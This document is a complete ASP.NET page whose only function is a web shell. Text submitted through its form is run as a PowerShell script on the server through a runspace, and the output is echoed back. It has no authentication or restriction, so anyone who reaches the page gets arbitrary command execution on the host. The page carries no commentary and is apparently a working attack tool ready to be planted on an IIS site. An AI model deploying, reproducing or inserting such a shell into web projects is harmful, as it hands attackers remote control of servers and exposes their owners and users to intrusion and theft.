<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<%@ Import Namespace="System.Collections.ObjectModel" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        if (!IsPostBack) return;
        using (Runspace runspace = RunspaceFactory.CreateRunspace())
        {
            runspace.Open();
            Pipeline pipeline = runspace.CreatePipeline();
            pipeline.Commands.AddScript(txt.Text);
            pipeline.Commands.Add("Out-String");
            foreach (var r in pipeline.Invoke()) res.Text += Server.HtmlEncode(r.ToString());
        }
    }
</script>
<form runat="server"><asp:TextBox ID="txt" runat="server" TextMode="MultiLine" /><asp:Button runat="server" Text="Run" /><pre><asp:Literal ID="res" runat="server" /></pre></form>
